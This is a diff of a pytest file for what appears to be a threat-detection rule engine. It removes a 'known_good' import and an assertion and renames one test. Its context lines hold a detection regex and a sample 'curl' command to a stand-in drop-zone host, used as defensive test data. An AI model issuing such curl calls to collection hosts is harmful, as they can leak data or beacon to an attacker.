@@ -7,7 +7,7 @@ import pytest
 
 from panguard.engine.canonical import candidate_id
 from panguard.threatcloud.gates import GATES, Grounds, examine, read_candidate, warning_lists
-from panguard.threatcloud.grounds import grounds, known_good
+from panguard.threatcloud.grounds import grounds
 
 HOST = r"collect\.drop-zone\.example/u/[0-9a-f]{8}"
 SEEN = "curl https://collect.drop-zone.example/u/0a1b2c3d"
@@ -151,6 +151,5 @@ def test_what_is_already_found_needs_no_second_rule(real: Grounds) -> None:
     assert refused(again, known) == ["new"]
 
 
-def test_known_good_texts_are_those_of_our_own_rules(real: Grounds) -> None:
+def test_known_good_texts_are_many(real: Grounds) -> None:
     assert len(real.known_good) > 300
-    assert known_good(()) == ()
